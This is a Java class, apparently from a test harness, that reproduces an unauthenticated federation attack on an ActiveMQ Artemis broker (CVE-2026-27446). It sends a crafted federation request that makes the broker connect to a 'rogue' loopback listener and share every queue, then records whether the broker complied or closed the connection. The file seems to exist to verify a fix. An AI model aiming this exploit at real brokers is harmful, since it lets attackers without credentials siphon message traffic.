package webhooks.it.harness.broker;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.apache.activemq.artemis.api.core.TransportConfiguration;
import org.apache.activemq.artemis.api.core.client.ActiveMQClient;
import org.apache.activemq.artemis.api.core.client.ClientSessionFactory;
import org.apache.activemq.artemis.api.core.client.ServerLocator;
import org.apache.activemq.artemis.core.config.FederationConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationDownstreamConfiguration;
import org.apache.activemq.artemis.core.config.federation.FederationQueuePolicyConfiguration;
import org.apache.activemq.artemis.core.protocol.core.CoreRemotingConnection;
import org.apache.activemq.artemis.core.protocol.core.Packet;
import org.apache.activemq.artemis.core.protocol.core.impl.ChannelImpl.CHANNEL_ID;
import org.apache.activemq.artemis.core.protocol.core.impl.wireformat.FederationDownstreamConnectMessage;
import org.apache.activemq.artemis.core.remoting.impl.netty.NettyConnectorFactory;

/**
 * A client without a login that asks the broker to connect to a rogue broker and to exchange the
 * messages of all queues with it (CVE-2026-27446).
 */
public final class FederationAttack {
  private static final String NAME = "rogue";
  private static final Duration QUIET = Duration.ofSeconds(2);

  private FederationAttack() {}

  /**
   * What the broker did.
   *
   * @param connectedToRogue whether it connected to the rogue broker
   * @param closed whether it closed the attacker's connection
   */
  public record Outcome(boolean connectedToRogue, boolean closed) {}

  /** Attacks the broker at this address. */
  public static Outcome on(String url) {
    try (ServerSocket rogue = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        ServerLocator locator = ActiveMQClient.createServerLocator(url);
        ClientSessionFactory attacker = locator.createSessionFactory()) {
      CoreRemotingConnection connection = (CoreRemotingConnection) attacker.getConnection();
      CountDownLatch closed = new CountDownLatch(1);
      connection.addCloseListener(closed::countDown);
      connection.getChannel(CHANNEL_ID.FEDERATION.id, -1).send(request(rogue.getLocalPort()));
      return new Outcome(accepts(rogue), closed.await(QUIET.toMillis(), TimeUnit.MILLISECONDS));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static boolean accepts(ServerSocket rogue) throws IOException {
    rogue.setSoTimeout((int) QUIET.toMillis());
    try {
      rogue.accept().close();
      return true;
    } catch (SocketTimeoutException e) {
      return false;
    }
  }

  private static Packet request(int port) {
    FederationDownstreamConfiguration stream = new FederationDownstreamConfiguration();
    stream.setName(NAME).addPolicyRef(NAME);
    stream.getConnectionConfiguration().setStaticConnectors(List.of(NAME));
    stream.setUpstreamConfiguration(
        new TransportConfiguration(
            NettyConnectorFactory.class.getName(),
            Map.of("host", "127.0.0.1", "port", port),
            NAME));
    FederationQueuePolicyConfiguration policy = new FederationQueuePolicyConfiguration();
    policy.setName(NAME);
    policy.addInclude(
        new FederationQueuePolicyConfiguration.Matcher().setAddressMatch("#").setQueueMatch("#"));
    FederationDownstreamConnectMessage request = new FederationDownstreamConnectMessage();
    request.setName(NAME);
    request.setCredentials(new FederationConfiguration.Credentials());
    request.setStreamConfiguration(stream);
    request.setFederationPolicyMap(Map.of(NAME, policy));
    request.setTransformerConfigurationMap(Map.of());
    return request;
  }
}
